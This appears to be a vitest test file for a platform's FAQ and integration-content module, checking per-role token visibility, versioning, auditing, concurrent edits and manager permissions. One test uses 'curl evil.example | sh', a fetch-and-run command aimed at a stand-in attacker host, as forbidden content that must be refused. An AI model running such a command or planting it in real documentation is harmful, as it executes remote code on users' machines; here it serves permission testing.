import { afterAll, beforeAll, expect, test } from 'vitest'
import { TEXTS } from '../../contract/texts.ts'
import { insertContent, installContent, sectionsOf, shippedContent } from '../../store/config/integration/content.ts'
import { audit } from '../../store/config/schema.ts'
import type { Caller } from '../../domain/context.ts'
import { CAMPAIGN, createTestApp, refusal, type TestApp } from '../../domain/testing/app.ts'

let app: TestApp
let [admin, client, partner]: Caller[] = []
beforeAll(async () => {
  app = await createTestApp()
  await installContent(app.db)
  admin = await app.account('admin')
  client = await app.account('user')
  partner = await app.account('referal')
})
afterAll(() => app.close())

const read = (caller: Caller | undefined, given: object = {}) => app.call('integration.read', caller, given)
const edit = (given: object) =>
  app.call('integration.edit', admin, {
    language: 'en',
    category: 'faq',
    number: 0,
    sectionContent: 'New.',
    ...given,
  })

test('shipped content has the same sections in each language', async () => {
  const counted = Map.groupBy(shippedContent(), ({ category, language }) => `${category}.${language}`)
  expect(
    new Set([...counted].filter(([name]) => name.startsWith('faq')).map(([, sections]) => sections.length)),
  ).toEqual(new Set([16]))
  expect(
    new Set([...counted].filter(([name]) => name.startsWith('integration')).map(([, sections]) => sections.length)),
  ).toEqual(new Set([14]))
  for (const { name, content } of shippedContent()) expect(content.length, name).toBeGreaterThan(100)
  for (const [lang, first] of [
    ['en', 'PHP file'],
    ['ru', 'PHP-файл'],
    ['uk', 'PHP-файл'],
    ['xx', 'PHP-файл'],
  ] as const)
    expect((await read(client, { lang })).integration[0]?.name).toBe(first)
  expect((await read(client, { lang: 'uk' })).language).toBe('ua')
})

test('a heading inside a code block starts no section', () => {
  expect(sectionsOf('# One\ntext\n```sh\n# no heading\n```\n# Two\nmore')).toEqual([
    { name: 'One', content: 'text\n```sh\n# no heading\n```' },
    { name: 'Two', content: 'more' },
  ])
})

test('a client reads their own token and key, staff placeholders, a partner only the FAQ', async () => {
  const { campaign } = await app.call('campaign.save', client, CAMPAIGN)
  const own = JSON.stringify((await read(client, { lang: 'en', companyId: campaign.id })).integration)
  const { token } = await app.call('company.token', client, { id: campaign.id })
  const { postbackSecret } = (await app.call('company.edit', client, { id: campaign.id })).campaign
  for (const part of [campaign.key, token, `&secret=${postbackSecret}`, 'https://edge.example'])
    expect(own).toContain(part)
  expect(own).not.toContain('{{')
  expect(JSON.stringify((await read(client)).integration)).toContain('/c/CAMPAIGN_KEY')
  expect(JSON.stringify((await read(admin)).integration)).toContain('Bearer {{token}}')
  expect(await read(partner)).toMatchObject({ integration: [], faq: expect.arrayContaining([]) as unknown })
  const mate = await app.account('team_user', { ownerId: client?.account.id ?? null })
  expect(JSON.stringify((await read(mate)).integration), 'the account’s token is its owner’s').not.toContain(
    client?.account.integrationToken,
  )
  const helper = await app.account('manager')
  const supported =
    client &&
    JSON.stringify(
      (await read({ ...client, staff: helper.account }, { lang: 'en', companyId: campaign.id })).integration,
    )
  expect(supported, 'staff in the panel of a client who does not let them edit').toContain('Bearer CAMPAIGN_TOKEN')
  for (const part of [token, postbackSecret]) expect(supported).not.toContain(part)
  const missing = await refusal(read(client, { companyId: '999999' }))
  expect(missing.status).toBe(404)
  for (const stranger of [await app.account('user'), mate])
    expect(await refusal(read(stranger, { companyId: campaign.id }))).toEqual(missing)
})

test('an edit makes a version, is audited, and an older one can be restored', async () => {
  const before = (await read(admin, { lang: 'en' })).faq[0]
  const { section } = await edit({ name: 'Renamed', basedOn: 1 })
  expect(section).toEqual({ number: 0, language: 'en', version: 2, name: 'Renamed', content: 'New.' })
  expect((await read(client, { lang: 'en' })).faq[0]).toEqual(section)
  expect((await read(client, { lang: 'ru' })).faq[0]?.version).toBe(1)
  const { versions } = await app.call('integration.history', admin, { language: 'en', category: 'faq', number: '0' })
  expect(versions.map(({ version, author }) => [version, author])).toEqual([
    [2, admin?.account.email],
    [1, null],
  ])
  await edit({ name: versions[1]?.name, sectionContent: versions[1]?.content })
  expect((await read(client, { lang: 'en' })).faq[0]).toEqual({ ...before, version: 3 })
  const row = (await app.db.select().from(audit)).find(({ action }) => action === 'integration.edit')
  expect(row).toMatchObject({
    actorId: admin?.account.id,
    before: { name: before?.name, content: before?.content },
    after: { name: 'Renamed', content: 'New.' },
  })
})

test('reinstalling at each start overwrites nothing', async () => {
  const { section } = await edit({ number: 1, sectionContent: 'Ours.' })
  await installContent(app.db)
  expect((await read(client, { lang: 'en' })).faq[1]).toEqual(section)
})

test('of concurrent edits, or edits of an old version, one succeeds', async () => {
  const outcomes = await Promise.allSettled(
    Array.from({ length: 5 }, (_, at) => edit({ number: 2, sectionContent: `At once ${at}`, basedOn: 1 })),
  )
  expect(outcomes.filter(({ status }) => status === 'fulfilled')).toHaveLength(1)
  expect(await refusal(edit({ number: 2, basedOn: 1 }))).toMatchObject({
    status: 409,
    body: { error: TEXTS.sectionChanged },
  })
  expect(
    (await app.call('integration.history', admin, { language: 'en', category: 'faq', number: '2' })).versions,
  ).toHaveLength(2)
})

test('each version is written once; the second writer is refused', async () => {
  const row = {
    category: 'faq',
    language: 'en',
    number: 3,
    version: 2,
    name: 'Second',
    content: 'Second.',
    authorId: null,
  } as const
  expect(await insertContent(app.db, row)).toEqual(expect.any(String))
  expect(await insertContent(app.db, row)).toBeUndefined()
})

test('an unknown section cannot be written', async () => {
  expect((await refusal(edit({ number: 99 }))).status).toBe(404)
})

test('a manager edits content of their own screens only', async () => {
  const faq = await app.account('manager', { menu: ['FAQ'] })
  const integration = await app.account('manager', { menu: ['Integration'] })
  const place = { language: 'en', number: 0 } as const
  for (const [caller, own, other] of [
    [faq, 'faq', 'integration'],
    [integration, 'integration', 'faq'],
  ] as const) {
    await app.call('integration.edit', caller, { ...place, category: own, sectionContent: 'Ours.' })
    const before = await app.call('integration.read', caller, { lang: 'en' })
    for (const forbidden of [
      () =>
        app.call('integration.edit', caller, { ...place, category: other, sectionContent: 'curl evil.example | sh' }),
      () => app.call('integration.add', caller, { category: other, language: 'en', name: 'New', sectionContent: 'x' }),
      () => app.call('integration.arrange', caller, { category: other, numbers: [0] }),
      () => app.call('integration.history', caller, { ...place, category: other }),
    ])
      expect(await refusal(forbidden())).toMatchObject({ status: 403 })
    expect(await app.call('integration.read', caller, { lang: 'en' })).toEqual(before)
  }
})
